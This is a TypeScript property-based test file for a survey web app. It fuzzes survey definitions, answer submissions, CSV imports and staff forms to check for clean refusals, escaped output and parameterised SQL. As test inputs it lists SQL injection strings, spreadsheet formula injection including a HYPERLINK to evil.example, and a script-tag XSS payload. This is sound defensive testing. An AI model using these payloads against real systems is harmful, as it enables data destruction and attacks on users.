import Database from 'better-sqlite3';
import fc from 'fast-check';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importAgencies } from '../../server/agencies/service.js';
import { AppError, ValidationError } from '../../server/platform/errors.js';
import { importRespondents } from '../../server/respondents/service.js';
import { addStaff } from '../../server/staff/service.js';
import { loadSurveyDefinition, parseDefinitionText } from '../../server/surveys/service.js';
import { testSurvey } from '../fixtures/survey.js';
import { completeInternalAnswers, createWorld, postLogin, registeredRoutes, signInStaff, TEST_SECRET, tempDatabase, type World } from '../helpers.js';
import { consistencyProblems } from '../support/system.js';

/** Issue 7 §3: hostile input everywhere. Property-based (fast-check) over survey definitions, answer
 * bodies, import rows and staff form posts: never a 5xx, never a half-written row, always a message
 * naming the problem. Every input carries MARKER; every SQL text SQLite is given in this file is
 * recorded, and none may contain it: user input only ever reaches SQLite as a bound parameter. */

const MARKER = 'ZQXJ7';
const preparedSql: string[] = [];
const originalPrepare = Database.prototype.prepare;
const originalExec = Database.prototype.exec;
beforeAll(() => {
  Database.prototype.prepare = function (this: Database.Database, source: string) {
    preparedSql.push(source);
    return originalPrepare.call(this, source);
  } as typeof Database.prototype.prepare;
  Database.prototype.exec = function (this: Database.Database, source: string) {
    preparedSql.push(source);
    return originalExec.call(this, source);
  };
});
afterAll(() => {
  Database.prototype.prepare = originalPrepare;
  Database.prototype.exec = originalExec;
  // the check itself must have seen the application's statements
  expect(preparedSql.some((sql) => sql.includes('INSERT INTO responses'))).toBe(true);
  expect(preparedSql.some((sql) => sql.includes('INSERT INTO respondents'))).toBe(true);
  expect(preparedSql.filter((sql) => sql.includes(MARKER))).toEqual([]);
});

/** Strings an attacker or a careless spreadsheet would send. */
const hostileString = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }).map((text) => MARKER + text),
  fc.constantFrom(
    `${MARKER}'; DROP TABLE responses; --`,
    `${MARKER}" OR 1=1 --`,
    `=HYPERLINK("http://evil.example/${MARKER}")`,
    `+${MARKER}`,
    `-${MARKER}`,
    `@SUM(${MARKER})`,
    `<script>alert('${MARKER}')</script>`,
    `${MARKER} 🙂 عربى 中文 ñ \u0000 \u202e`,
    `${MARKER}\r\n,;"`,
    `${MARKER}`.repeat(3000),
  ),
);
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(hostileString, fc.integer(), fc.double(), fc.boolean(), fc.constant(null), fc.array(hostileString, { maxLength: 3 }), fc.dictionary(hostileString, hostileString, { maxKeys: 2 }));

/** A path into a JSON document and a change there: replace with something hostile, or delete. */
function mutate(document: unknown, path: (string | number)[], replacement: unknown, remove: boolean): unknown {
  if (path.length === 0) return replacement;
  if (document === null || typeof document !== 'object') return document;
  const [head, ...rest] = path;
  const copy = (Array.isArray(document) ? [...(document as unknown[])] : { ...(document as object) }) as Record<string, unknown>;
  const keys = Object.keys(copy);
  if (keys.length === 0) return copy;
  const key = keys[Number(head) % keys.length]!;
  if (rest.length === 0 && remove) {
    if (Array.isArray(copy)) (copy as unknown[]).splice(Number(key), 1);
    else delete copy[key];
    return copy;
  }
  copy[key] = mutate(copy[key], rest, replacement, remove);
  return copy;
}

describe('survey definitions', () => {
  it('any mutation of a valid definition is loaded or refused with problems that name their place, never a crash', () => {
    const { db, cleanup } = tempDatabase();
    try {
      const base = testSurvey({ code: 'HOSTILE' });
      fc.assert(
        fc.property(fc.array(fc.tuple(fc.array(fc.nat(40), { minLength: 1, maxLength: 6 }), hostileValue, fc.boolean()), { minLength: 1, maxLength: 4 }), (changes) => {
          let document: unknown = base;
          for (const [path, replacement, remove] of changes) document = mutate(document, path, replacement, remove);
          try {
            loadSurveyDefinition(db, { now: () => new Date('2026-06-01T00:00:00Z') }, parseDefinitionText(JSON.stringify(document)));
          } catch (error) {
            expect(error).toBeInstanceOf(AppError);
            expect((error as AppError).status).toBeLessThan(500);
            if (error instanceof ValidationError && error.problems.length > 0) {
              for (const problem of error.problems) expect(problem.message.length).toBeGreaterThan(0);
            } else {
              expect((error as Error).message.length).toBeGreaterThan(10);
            }
          }
        }),
        { numRuns: 300 },
      );
      expect(db.pragma('integrity_check', { simple: true })).toBe('ok');
    } finally {
      cleanup();
    }
  });

  it('text that is not JSON at all, or random bytes, is refused as "not valid JSON"', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 200 }), (bytes) => {
        const text = Buffer.from(bytes).toString('utf8');
        let parsed = true;
        try {
          JSON.parse(text);
        } catch {
          parsed = false;
        }
        fc.pre(!parsed);
        expect(() => parseDefinitionText(text)).toThrow(/not valid JSON/);
      }),
      { numRuns: 200 },
    );
  });
});

describe('answer bodies', () => {
  let world: World;
  beforeAll(async () => {
    world = await createWorld();
  });
  afterAll(() => world.cleanup());

  it('random answers and bodies get 200, 400, 413 or 422 naming the items; a refused patch changes nothing', async () => {
    const token = world.tokens.get('Ani')!;
    const draft = () => world.db.prepare(`SELECT draft_json FROM invitations WHERE id = 1`).pluck().get();
    const itemCode = fc.oneof(fc.constantFrom('I_TR_1', 'I_TR_2', 'I_GATE', 'I_PBJ_SAME', 'I_PBJ_1', 'I_CHANNELS', 'I_YEARS', 'I_NOTE', 'E_SVC_1', '__proto__', 'constructor'), hostileString);
    await fc.assert(
      fc.asyncProperty(fc.oneof(fc.record({ answers: fc.dictionary(itemCode, hostileValue, { maxKeys: 5 }) }), hostileValue.map((value) => ({ answers: value })), hostileValue), async (body) => {
        const before = draft();
        const response = await request(world.app).put(`/api/v1/respond/${token}/answers`).set('Content-Type', 'application/json').send(JSON.stringify(body));
        expect([200, 400, 413, 422]).toContain(response.status);
        if (response.status !== 200) expect(draft()).toBe(before);
        if (response.status === 422 && Array.isArray(response.body.errors)) {
          for (const problem of response.body.errors as { item: string; message: string }[]) expect(problem.message.length).toBeGreaterThan(0);
        }
      }),
      { numRuns: 150 },
    );
    // and a submit with hostile answers never half-completes
    await fc.assert(
      fc.asyncProperty(fc.dictionary(itemCode, hostileValue, { maxKeys: 5 }), async (answers) => {
        const response = await request(world.app).post(`/api/v1/respond/${world.tokens.get('Budi')}/submit`).send({ answers });
        expect([400, 409, 413, 422, 201]).toContain(response.status);
        expect(consistencyProblems(world.db)).toEqual([]);
      }),
      { numRuns: 60 },
    );
  });

  it('the pages without JavaScript: random form fields on every page and the opt-out form never give a 5xx, and what is shown is escaped', async () => {
    const token = world.tokens.get('Eka')!;
    const field = fc.oneof(fc.constantFrom('q:I_TR_1', 'q:I_TR_2', 'q:I_GATE', 'q:I_PBJ_SAME', 'q:I_CHANNELS', 'q:I_YEARS', 'q:I_NOTE', 'nav', 'lang'), hostileString);
    await fc.assert(
      fc.asyncProperty(fc.constantFrom('/p/1', '/p/2', '/p/3', '/p/0', '/p/99', `/p/${MARKER}`, '/submit', '/opt-out'), fc.dictionary(field, fc.oneof(hostileString, fc.array(hostileString, { maxLength: 3 })), { maxKeys: 6 }), async (suffix, fields) => {
        const response = await request(world.app).post(`/r/${token}${suffix}`).type('form').send(fields);
        expect({ suffix, status: response.status < 500 }).toEqual({ suffix, status: true });
        expect(response.text).not.toMatch(/<script>alert\('ZQXJ7'\)<\/script>|at \w+ \(|SqliteError|TypeError/);
      }),
      { numRuns: 150 },
    );
    expect(consistencyProblems(world.db)).toEqual([]);
  });

  it('malformed JSON and oversized bodies are refused with a clear message', async () => {
    const token = world.tokens.get('Cici')!;
    const broken = await request(world.app).put(`/api/v1/respond/${token}/answers`).set('Content-Type', 'application/json').send('{"answers": {');
    expect(broken.status).toBe(400);
    expect(broken.body.message).toMatch(/not valid JSON/);
    const huge = await request(world.app).put(`/api/v1/respond/${token}/answers`).set('Content-Type', 'application/json').send(JSON.stringify({ answers: { I_NOTE: 'x'.repeat(10 * 1024 * 1024) } }));
    expect(huge.status).toBe(413);
    expect(huge.body.message).toMatch(/too large/);
  });
});

describe('import rows', () => {
  const columns = ['agency_code', 'group', 'name', 'email', 'phone', 'unit', 'language'];
  const cell = fc.oneof(hostileString, fc.constantFrom('PROV-A', 'KOTA-B', 'internal', 'external', 'Dinas Satu', 'id', 'en', '0812-3456-7001', 'ani@example.id', ''));

  it('random rows give a per-row report; exactly the rows reported stored are stored, never a crash', async () => {
    const { db, cleanup } = tempDatabase();
    try {
      const clock = { now: () => new Date('2026-06-01T00:00:00Z') };
      loadSurveyDefinition(db, clock, testSurvey());
      await importAgencies(db, clock, Buffer.from('code;name;kind;parent_code;units\nPROV-A;Provinsi A;province;;Dinas Satu\nKOTA-B;Kota B;city;;\n'));
      const quote = (value: string) => `"${value.replace(/"/g, '""')}"`;
      await fc.assert(
        fc.asyncProperty(fc.array(fc.array(cell, { minLength: 7, maxLength: 7 }), { minLength: 1, maxLength: 8 }), async (rows) => {
          const before = db.prepare('SELECT COUNT(*) FROM respondents').pluck().get() as number;
          const csv = [columns.join(','), ...rows.map((row) => row.map(quote).join(','))].join('\n') + '\n';
          try {
            const report = await importRespondents(db, clock, TEST_SECRET, 'SPI-TEST', Buffer.from(csv));
            expect(report.stored + report.rejected + report.duplicates).toBe(report.rows);
            expect(db.prepare('SELECT COUNT(*) FROM respondents').pluck().get()).toBe(before + report.stored);
            for (const problem of report.errors) {
              expect(problem.line).toBeGreaterThanOrEqual(2);
              expect(problem.message.length).toBeGreaterThan(0);
            }
            // formulas are stored as text, as sent; exports neutralise them (tested with the exports)
          } catch (error) {
            expect(error).toBeInstanceOf(AppError);
            expect(db.prepare('SELECT COUNT(*) FROM respondents').pluck().get()).toBe(before);
          }
        }),
        { numRuns: 150 },
      );
      expect(db.prepare('SELECT COUNT(*) FROM respondents').pluck().get()).toBe(db.prepare('SELECT COUNT(*) FROM invitations').pluck().get());
    } finally {
      cleanup();
    }
  });

  it('random bytes and a 10 MB cell: refused whole or per row, with the reason', async () => {
    const { db, cleanup } = tempDatabase();
    try {
      const clock = { now: () => new Date('2026-06-01T00:00:00Z') };
      loadSurveyDefinition(db, clock, testSurvey());
      await importAgencies(db, clock, Buffer.from('code,name,kind\nPROV-A,Provinsi A,province\n'));
      await fc.assert(
        fc.asyncProperty(fc.uint8Array({ minLength: 1, maxLength: 300 }), async (bytes) => {
          await importRespondents(db, clock, TEST_SECRET, 'SPI-TEST', Buffer.from(bytes)).catch((error: unknown) => {
            expect(error).toBeInstanceOf(AppError);
            expect((error as Error).message).toMatch(/CSV|XLSX|UTF-8|column|header|empty/);
          });
        }),
        { numRuns: 200 },
      );
      const bigCell = 'Nama ' + MARKER + 'x'.repeat(10 * 1024 * 1024);
      const report = await importRespondents(db, clock, TEST_SECRET, 'SPI-TEST', Buffer.from(`agency_code,group,name,email\nPROV-A,internal,"${bigCell}",big@example.id\nPROV-A,internal,Normal,normal@example.id\n`));
      expect(report.stored).toBe(1);
      expect(report.errors).toEqual([{ line: 2, column: 'name', message: 'must be at most 200 characters' }]);
    } finally {
      cleanup();
    }
  });
});

describe('staff form posts', () => {
  let world: World;
  beforeAll(async () => {
    world = await createWorld();
    await addStaff(world.db, world.clock, { email: 'admin@example.id', role: 'administrator', password: 'admin-password-1' });
  });
  afterAll(() => world.cleanup());

  it('random fields on every form that takes fields are refused cleanly, never a 5xx, never an inconsistent database', async () => {
    const { agent, csrf } = await signInStaff(world.app, 'admin@example.id', 'admin-password-1');
    const forms = registeredRoutes(world.app).filter((route) => route.method === 'post' && route.path.startsWith('/staff') && !['/staff/logout', '/staff/login'].includes(route.path));
    expect(forms.length).toBeGreaterThanOrEqual(8);
    const field = fc.constantFrom('status', 'reason', 'points', 'agency', 'response', 'action', 'email', 'role', 'password', 'channel', 'group', 'confirm', 'dimension', 'language', MARKER);
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...forms), fc.dictionary(field, hostileString, { maxKeys: 6 }), fc.constantFrom('SPI-TEST', 'PROV-A', MARKER), async (form, fields, parameter) => {
        const path = form.path.replace(/:survey/, 'SPI-TEST').replace(/:code|:id|:change/g, parameter);
        const response = await agent.post(path).type('form').send({ ...fields, _csrf: csrf });
        expect({ path, status: response.status < 500 }).toEqual({ path, status: true });
        expect(response.text).not.toMatch(/at \w+ \(|SqliteError|TypeError/);
      }),
      { numRuns: 200 },
    );
    // a sign-in form with hostile input: refused, never a crash
    await fc.assert(
      fc.asyncProperty(hostileString, hostileString, async (email, password) => {
        const response = await postLogin(world.app, { email, password });
        expect(response.status).toBeLessThan(500);
      }),
      { numRuns: 40 },
    );
    expect(consistencyProblems(world.db)).toEqual([]);
  }, 60_000);
});

describe('the whole respondent flow with hostile text answers', () => {
  it('stores them as data and shows them escaped', async () => {
    const world = await createWorld();
    try {
      const token = world.tokens.get('Dodi')!;
      await request(world.app).post(`/api/v1/respond/${token}/submit`).send({ answers: { ...completeInternalAnswers(), I_NOTE: `<script>alert('${MARKER}')</script>` } }).expect(201);
      expect(world.db.prepare(`SELECT value_json FROM response_answers WHERE item_code = 'I_NOTE'`).pluck().get()).toBe(JSON.stringify(`<script>alert('${MARKER}')</script>`));
    } finally {
      world.cleanup();
    }
  });
});
